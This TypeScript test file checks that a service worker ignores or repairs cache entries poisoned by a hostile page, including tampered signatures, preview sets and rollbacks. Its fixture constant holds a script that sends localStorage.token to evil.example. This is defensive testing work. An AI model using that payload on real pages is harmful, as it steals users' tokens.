import { beforeEach, describe, expect, test } from '@jest/globals';
import { signingKey } from '@viewmax/testing/signing-key';
import { provideCaches } from '../testing/caches.ts';
import { loads, pageNow, setNow, storeSet } from '../testing/start-worker.ts';
import { openTestEdge } from '../testing/test-edge.ts';

interface Signed {
  text: string;
  signature: string;
}

let stores: ReturnType<typeof provideCaches>;
let edge: Awaited<ReturnType<typeof openTestEdge>>;

const shell = () => edge.release('shell', '1.0.0', { 'shell.js': 'shell' });
const catalogOf = (version: string) =>
  edge.release('catalog', version, { 'entry.js': `catalog ${version}`, 'one.js': 'one of catalog' });

const poison = (cache: string, path: string, text: string) =>
  (stores.get(cache) ?? stores.set(cache, new Map()).get(cache))?.set(
    new URL(path, location.href).href,
    new Response(text, { headers: { 'content-type': 'text/html' } }),
  );

beforeEach(async () => {
  stores = provideCaches();
  edge = await openTestEdge();
  await edge.goesLive('a', [shell(), catalogOf('1.0.0')]);
});

describe('a hostile page that writes into the caches', () => {
  const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';

  test('gets none of its pages shown', async () => {
    await storeSet('a');
    for (const [name, store] of stores) for (const url of store.keys()) poison(name, url, HOSTILE);
    for (const name of ['set-a', 'notes', 'sets', 'files']) poison(name, '/', HOSTILE);
    poison('notes', '/present-set', 'set-a');
    expect(await pageNow()).toBeUndefined();
  });

  test('gets no entry kept beside the sets', async () => {
    await storeSet('a');
    for (const path of ['/', '/img/hostile', '/stored-sets?hostile']) poison('sets', path, HOSTILE);
    await storeSet('a');
    expect([...(stores.get('sets')?.keys() ?? [])]).toEqual([new URL('/stored-sets', location.href).href]);
    expect(await setNow()).toBe('a');
  });

  test('gets no file used, and the next store of the set mends them', async () => {
    await storeSet('a');
    poison('files', '/r/catalog/1.0.0/entry.js', HOSTILE);
    poison('files', '/r/catalog/1.0.0/one.js', HOSTILE);
    poison('files', '/r/catalog/1.0.0/own.js', HOSTILE);
    for (const file of ['entry.js', 'one.js', 'own.js']) {
      expect(await loads(`/r/catalog/1.0.0/${file}`)).toBe('from the network');
    }
    await storeSet();
    expect(await loads('/r/catalog/1.0.0/entry.js')).toBe('catalog 1.0.0');
    expect(await loads('/r/catalog/1.0.0/one.js')).toBe('one of catalog');
    expect([...(stores.get('files')?.keys() ?? [])]).not.toContain(`${location.origin}/r/catalog/1.0.0/own.js`);
  });

  test.each([
    ['a changed letter', async ({ text, signature }: Signed) => ({ text: text.replace('1.0.0', '6.6.6'), signature })],
    ['a key of its own', async ({ text }: Signed) => ({ text, signature: await (await signingKey('k1')).sign(text) })],
    ['no text at all', async () => ({})],
  ])('gets no document used with %s', async (_, change) => {
    await storeSet('a');
    poison('sets', '/stored-sets', JSON.stringify([{ ...(await change(edge.live)), at: Date.now() }]));
    expect(await pageNow()).toBeUndefined();
  });

  test('gets no preview stored, neither by the worker nor in the store itself', async () => {
    await storeSet('a');
    const preview = await edge.goesLive('p', [shell(), catalogOf('6.6.6')], { preview: true });
    await expect(storeSet('p')).rejects.toThrow('The set is not signed for this device');
    const [stored] = JSON.parse(
      (await stores.get('sets')?.get(`${location.origin}/stored-sets`)?.clone().text()) ?? '',
    );
    poison('sets', '/stored-sets', JSON.stringify([{ ...preview, at: Date.now() }, stored]));
    expect(await setNow()).toBe('a');
  });

  test('cannot put an older set before the present one', async () => {
    const older = { ...edge.live, at: Date.now() };
    await edge.goesLive('b', [shell(), catalogOf('2.0.0')]);
    await storeSet('b');
    poison('sets', '/stored-sets', JSON.stringify([older, { ...edge.live, at: 0 }]));
    expect(await setNow()).toBe('b');
  });
});
